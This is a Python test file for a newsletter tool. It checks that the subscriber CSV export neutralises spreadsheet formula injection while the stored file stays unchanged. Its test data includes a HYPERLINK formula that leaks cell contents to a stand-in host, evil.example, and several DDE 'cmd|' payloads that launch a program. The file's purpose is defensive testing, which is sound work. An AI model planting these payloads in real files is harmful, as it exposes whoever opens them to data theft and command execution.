"""Spreadsheet formulas: `subscribers export` never hands a spreadsheet a formula to run.

Before, cells such as ``=HYPERLINK(...)``, ``+cmd|...`` or ``@SUM(...)`` (a sign-up form's name
field, a column someone pasted) went into the export as they were, and a writer who opened it
in a spreadsheet ran them. The subscriber files themselves keep the bytes written in them.
"""

from __future__ import annotations

import csv
import io

from conftest import invoke

FORMULAS = [
    '=HYPERLINK("https://evil.example/?leak="&A1,"Click for a prize")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def write_list(site) -> bytes:
    buffer = io.StringIO()
    writer = csv.writer(buffer, lineterminator="\r\n")
    writer.writerow(["email", "name", "status", "tags", "subscribed_at", "=source"])
    for number, formula in enumerate(FORMULAS):
        writer.writerow([f"reader{number}@example.com", formula, "active", formula,
                         "2026-01-01T00:00:00Z", formula])
    writer.writerow(["+plus@example.com", "Plain Name", "active", "", "", "web form"])
    data = buffer.getvalue().encode("utf-8")
    for old in (site / "subscribers").glob("*.csv"):
        old.unlink()
    (site / "subscribers" / "subscribers.csv").write_bytes(data)
    return data


def exported(site, *args: str) -> list[list[str]]:
    result = invoke(site, "subscribers", "export", *args)
    assert result.exit_code == 0, result.output
    return list(csv.reader(io.StringIO(result.stdout)))


def test_every_cell_that_would_start_a_formula_is_exported_as_text(site):
    written = write_list(site)

    rows = exported(site)

    cells = [cell for row in rows for cell in row]
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
    header, *readers = rows
    assert header[-1] == "'=source"
    by_address = {row[0]: row for row in readers}
    for number, formula in enumerate(FORMULAS):
        row = by_address[f"reader{number}@example.com"]
        # The text itself, shown, never run (the list reads values with spaces trimmed).
        assert row[1] == "'" + formula.strip()
        assert row[5] == "'" + formula.strip()
    assert by_address["'+plus@example.com"][1:2] == ["Plain Name"]  # plain cells stay plain
    assert (site / "subscribers" / "subscribers.csv").read_bytes() == written


def test_the_subscriber_file_keeps_the_formulas_byte_for_byte_through_an_edit(site):
    written = write_list(site)

    added = invoke(site, "subscribers", "add", "new@example.com", "--name", "=1+1")
    out = site / "export.csv"
    invoke(site, "subscribers", "export", "--out", str(out))

    assert added.exit_code == 0
    after = (site / "subscribers" / "subscribers.csv").read_bytes()
    assert after.startswith(written)  # every old row as it was; the new one appended
    assert b"=1+1" in after[len(written):]
    assert "'=1+1" in out.read_text(encoding="utf-8")


def test_a_cell_starting_with_a_tab_or_carriage_return_is_neutralised_too():
    # The list trims spaces around the values it reads, so no exported cell starts with a tab
    # today; OWASP's rule covers it all the same.
    from newsletter.subscribers.export import as_text

    assert [as_text(cell) for cell in ("\t=1+1", "\r=1+1", "a=1", "")] == [
        "'\t=1+1", "'\r=1+1", "a=1", ""]


def test_an_export_imported_elsewhere_keeps_its_readers_addresses_and_names(site, tmp_path):
    # Moving the list: the export's guard quote would have made '+plus@example.com (another
    # address) and '-dash@example.com a leaver no more
    (site / "subscribers" / "subscribers.csv").write_text(
        "email,name,status,tags,subscribed_at\n"
        "+plus@example.com,=Plain,active,,\n"
        "-dash@example.com,Dee,unsubscribed,,\n", encoding="utf-8")
    out = tmp_path / "all.csv"
    assert invoke(site, "subscribers", "export", "--out", str(out)).exit_code == 0
    assert "'-dash@example.com" in out.read_text(encoding="utf-8")
    (site / "subscribers" / "subscribers.csv").write_text("email,name,status\n")

    result = invoke(site, "subscribers", "import", str(out))

    assert result.exit_code == 0, result.output
    assert invoke(site, "subscribers", "list").stdout.splitlines() == [
        "+plus@example.com\t=Plain\tactive\t", "-dash@example.com\tDee\tunsubscribed\t"]



def test_a_formula_after_a_semicolon_or_tab_in_a_cell_is_neutralised_too(site):
    # Excel in a German or French locale splits a CSV on ";" (quotes or not, in a file whose
    # cells are separated by commas): an exported "Bob;=cmd|..." became two cells there,
    # the second a formula. So did a tab, in a tab-separated locale.
    hidden = ["Bob;=cmd|' /C calc'!A0", "Eve\t=1+1", "Dan; +2", 'Cy;""@SUM(1)']
    lines = ["email,name,status"] + [f'reader{n}@example.com,"{name}",active'
                                     for n, name in enumerate(hidden)]
    lines.append("plain@example.com,Ann;Lee,active")
    for old in (site / "subscribers").glob("*.csv"):
        old.unlink()
    (site / "subscribers" / "subscribers.csv").write_text("\n".join(lines) + "\n")

    rows = exported(site)
    result = invoke(site, "subscribers", "export")

    for delimiter in (";", "\t"):
        pieces = [piece for line in result.stdout.splitlines()
                  for piece in line.split(delimiter)]
        assert not [piece for piece in pieces if piece.lstrip('"')[:1] in ("=", "+", "@")]
    names = {row[0]: row[1] for row in rows[1:]}
    assert names["reader0@example.com"] == "Bob;'=cmd|' /C calc'!A0"  # shown, never run
    assert names["reader2@example.com"] == "Dan; +2"  # not after the separator: kept
    assert names["reader3@example.com"] == 'Cy;\'"@SUM(1)'
    assert names["plain@example.com"] == "Ann;Lee"
